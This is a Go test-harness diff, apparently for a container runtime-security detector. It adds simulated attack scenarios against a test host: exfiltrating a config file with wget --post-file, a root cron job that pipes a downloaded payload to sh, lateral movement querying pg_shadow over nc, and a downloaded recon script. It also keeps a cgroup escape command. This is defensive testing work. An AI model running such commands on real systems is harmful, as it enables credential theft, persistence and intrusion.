@@ -86,6 +86,28 @@ dpkg -l >/dev/null 2>&1
 echo "Setting up $3 ..."
 `
 
+// reconScript is the discovery script the worker-discovery attack downloads
+// from test host B: only commands the worker never runs, nothing a rule names.
+const reconScript = `#!/bin/sh
+id
+uname -a
+ps
+netstat -tn 2>/dev/null || cat /proc/net/tcp
+cat /proc/1/environ | tr '\0' '\n'
+find / -xdev -perm -4000 -type f 2>/dev/null
+ls -la /run /data
+`
+
+// appConfig is the web application's secret configuration, part of the
+// image and never read by the benign workload.
+const appConfig = `production:
+  adapter: postgresql
+  host: db.internal
+  database: shop
+  username: shop_app
+  password: "s3cr3t-Pr0d-passw0rd"
+`
+
 const cgiStatus = `#!/bin/sh
 echo "Content-Type: text/plain"
 echo
@@ -100,9 +122,10 @@ func workloads(helper string) []workload {
 			args: func(hosts) []string { return []string{"httpd", "-f", "-p", "8080", "-h", "/var/www"} },
 			files: func(hosts) map[string]fileSpec {
 				return map[string]fileSpec{
-					"var/www/about.html":     {mode: 0o644, data: "<html>about</html>\n"},
-					"var/www/cgi-bin/status": {mode: 0o755, data: cgiStatus},
-					"usr/local/bin/dwhelper": {mode: 0o755, copy: helper},
+					"var/www/about.html":          {mode: 0o644, data: "<html>about</html>\n"},
+					"var/www/cgi-bin/status":      {mode: 0o755, data: cgiStatus},
+					"usr/local/bin/dwhelper":      {mode: 0o755, copy: helper},
+					"srv/app/config/database.yml": {mode: 0o640, data: appConfig},
 				}
 			},
 			attacks: []attack{
@@ -129,6 +152,22 @@ func workloads(helper string) []workload {
 					scenario: "web-interactive-shell", name: "interactive shell with a tty",
 					argv:  func(hosts) []string { return []string{"/usr/local/bin/dwhelper", "pty", "/bin/sh", "-i"} },
 					stdin: "id\nls /var/www\ncat /etc/passwd\nexit\n",
+				},
+				// Attacks below are named by no default rule: only the
+				// learned profile can tell them from the workload.
+				{
+					scenario: "web-config-exfiltration", name: "application secrets sent to a new peer",
+					argv: func(h hosts) []string {
+						return []string{"sh", "-c", fmt.Sprintf("cat /srv/app/config/database.yml >/dev/null; wget -q -T 3 -O /dev/null --post-file /srv/app/config/database.yml http://%s:8081/collect", h.B)}
+					},
+					listen:      []string{"busybox", "nc", "-l", "-p", "8081"},
+					listenStdin: "HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n",
+				},
+				{
+					scenario: "web-cron-persistence", name: "persistence through a crontab",
+					argv: func(h hosts) []string {
+						return []string{"sh", "-c", fmt.Sprintf("mkdir -p /var/spool/cron/crontabs && echo '*/5 * * * * wget -q -O- http://%s:8000/payload | sh' > /var/spool/cron/crontabs/root && chmod 600 /var/spool/cron/crontabs/root", h.B)}
+					},
 				},
 			},
 		},
@@ -167,6 +206,14 @@ func workloads(helper string) []workload {
 				{
 					scenario: "batch-package-manager", name: "package manager run in a container",
 					argv: func(hosts) []string { return []string{"/usr/bin/apt-get", "install", "-y", "ncat"} },
+				},
+				{
+					scenario: "batch-lateral-movement", name: "lateral movement to an internal database",
+					argv: func(h hosts) []string {
+						return []string{"sh", "-c", fmt.Sprintf("nc -w 1 %[1]s 22 </dev/null; printf 'SELECT usename, passwd FROM pg_shadow;\\n' | nc -w 2 %[1]s 5432", h.B)}
+					},
+					listen:      []string{"busybox", "nc", "-l", "-p", "5432"},
+					listenStdin: "postgres|md5c0ffee\n",
 				},
 			},
 		},
@@ -208,8 +255,27 @@ func workloads(helper string) []workload {
 							"echo /tmp/x > /sys/fs/cgroup/unified/release_agent; mount -t proc proc /tmp/cgrp; nsenter -t 1 -m -u -n -p sh -c id"}
 					},
 				},
+				{
+					scenario: "worker-discovery", name: "discovery script downloaded to /dev/shm",
+					argv: func(h hosts) []string {
+						return []string{"sh", "-c", fmt.Sprintf("wget -q -T 3 -O /dev/shm/.x http://%s:8000/recon.sh && sh /dev/shm/.x > /dev/shm/.out 2>&1", h.B)}
+					},
+				},
 			},
 		},
+	}
+}
+
+// payloadPort is the port of test host B's web server for the attackers'
+// downloads (served).
+const payloadPort = 8000
+
+// served is what test host B's web server holds: the drop-and-execute
+// payload (the static helper) and the discovery script.
+func served(helper string) map[string]fileSpec {
+	return map[string]fileSpec{
+		"payload":  {mode: 0o755, copy: helper},
+		"recon.sh": {mode: 0o644, data: reconScript},
 	}
 }
 
@@ -219,22 +285,27 @@ func buildRootfs(dir string, w workload, h hosts) error {
 	if err := testinfra.MakeBusyboxRootfs(dir); err != nil {
 		return err
 	}
-	for rel, f := range w.files(h) {
+	return writeFiles(dir, w.files(h))
+}
+
+// writeFiles writes files (paths relative to dir) with their modes.
+func writeFiles(dir string, files map[string]fileSpec) error {
+	for rel, f := range files {
 		p := filepath.Join(dir, rel)
 		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-			return err
+			return fmt.Errorf("write %s: %w", p, err)
 		}
 		if f.copy != "" {
 			if err := testinfra.CopyFile(f.copy, p, f.mode); err != nil {
-				return err
+				return fmt.Errorf("write %s: %w", p, err)
 			}
 			continue
 		}
 		if err := os.WriteFile(p, []byte(f.data), f.mode.Perm()); err != nil {
-			return err
+			return fmt.Errorf("write %s: %w", p, err)
 		}
 		if err := os.Chmod(p, f.mode); err != nil {
-			return err
+			return fmt.Errorf("write %s: %w", p, err)
 		}
 	}
 	return nil
